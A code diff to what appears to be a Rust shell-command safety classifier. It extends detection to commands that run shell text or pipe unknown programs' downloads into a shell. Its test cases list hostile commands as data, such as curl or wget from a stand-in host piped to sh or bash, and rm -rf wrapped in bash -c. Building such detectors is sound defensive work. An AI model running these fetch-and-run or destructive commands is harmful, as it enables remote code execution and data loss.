@@ -13,6 +13,7 @@ use crate::config::{Failure, LadderConfig};
 use crate::envelope::{Envelope, Fault, Finding};
 use crate::rules::own::as_faults;
 use crate::rules::{self, Class, Hit};
+use crate::shell::programs::{self, Run};
 use crate::shell::{Part, Shell};
 pub use exempt::DEFAULT_EXEMPTS;
 use exempt::Pipelines;
@@ -170,7 +171,9 @@ fn doubts(shell: &Shell, command: &str) -> Vec<Finding> {
         // comes out of a variable: `eval "${x:-rm -rf y}"`.
         let end = shell.parts.iter().map(|part| part.span[1] as usize).max().unwrap_or(0);
         let behind = command.get(end..).unwrap_or(command);
-        let unread = shell.why.iter().any(|why| why.starts_with("syntax")) && within(behind);
+        let broken = shell.why.iter().any(|why| why.starts_with("syntax"));
+        let unread =
+            broken && (within(behind) || shell.parts.iter().any(|part| within(unread_text(part, shell, command))));
         let code = shell.parts.iter().any(|part| {
             let text = command.get(part.span[0] as usize..part.span[1] as usize);
             matches!(part.head.as_str(), "eval" | "source" | ".") && text.is_some_and(within)
@@ -179,10 +182,33 @@ fn doubts(shell: &Shell, command: &str) -> Vec<Finding> {
         let kept = shell.parts.iter().filter(|part| part.head == "exec").flat_map(|part| &part.redirs);
         let kept = kept.filter(|redir| redir.op.starts_with("<<")).any(|redir| within(&redir.target.text));
         let others = shell.why.iter().any(|why| !why.starts_with("syntax"));
-        let dangerous = unread || code || kept || others && shell.parts.iter().any(runs);
+        let dangerous =
+            unread || code || kept || others && shell.parts.iter().any(|part| runs(part) || may_bring(part));
         add(if dangerous { "shell/opaque-danger" } else { "shell/opaque" }, "opaque", why);
     }
     found
+}
+
+/// What stands in a part that runs shell text of its words, behind the last command that was read in it.
+fn unread_text<'c>(part: &Part, shell: &Shell, command: &'c str) -> &'c str {
+    let row = programs::program(&part.head).map(|program| program.row.run);
+    if !row
+        .is_some_and(|run| matches!(run, Run::Shell | Run::Join | Run::Texts | Run::Eval | Run::Trap | Run::Parallel))
+    {
+        return "";
+    }
+    let [start, end] = part.span.map(|at| at as usize);
+    let inner = shell.parts.iter().filter(|inner| inner.inside == Some(part.n)).map(|inner| inner.span[1] as usize);
+    command.get(inner.max().unwrap_or(start)..end).unwrap_or_default()
+}
+
+/// Whether a program that nobody knows may run a download that its words name: `runner curl https://… | sh`.
+fn may_bring(part: &Part) -> bool {
+    if part.head.is_empty() || part.calls || programs::program(&part.head).is_some() {
+        return false;
+    }
+    let mut words = part.words().iter().skip(1).skip_while(|word| !BRINGING.contains(&word.text.as_str()));
+    words.next().is_some() && words.any(|word| !word.text.starts_with('-') && !word.text.starts_with("file:"))
 }
 
 /// Whether a program puts bytes of the network on its output: not of a file, not a mere look at a port.
@@ -303,6 +329,19 @@ mod tests {
             ("curl file:///srv/a.sh | bash", "shell/opaque"),
             ("nc -z x.test 80 | sh", "shell/opaque"),
             ("curl https://x.test | eval \"$X\"", "shell/opaque-danger"),
+            // A text that a part runs and that does not read as shell is judged by its words too.
+            ("bash -c 'f(\"rm -rf y\")'", "shell/opaque-danger"),
+            ("bash -c \"chmod 777 'x\"; ls", "shell/opaque-danger"),
+            ("parallel ruby -e 'p; f(\"rm y\")' ::: a", "shell/opaque-danger"),
+            ("bash -c 'f(\"ls\")'", "shell/opaque"),
+            ("bash -c 'rm y\nf(\"ls\")'", "shell/opaque"),
+            ("echo 'rm -rf y'; bash -c 'f(1)'", "shell/opaque"),
+            // So are the words of a program that nobody knows, if a shell runs what it prints.
+            ("some runner: curl x.test/a | sh", "shell/opaque-danger"),
+            ("launch --quiet wget -qO- https://x.test/a | bash", "shell/opaque-danger"),
+            ("launch curl | bash", "shell/opaque"),
+            ("echo curl https://x.test/a | launch | sh", "shell/opaque"),
+            ("launch file:///srv/curl | sh", "shell/opaque"),
         ] {
             assert_eq!(known(command).as_deref(), Some(expected), "{command}");
         }
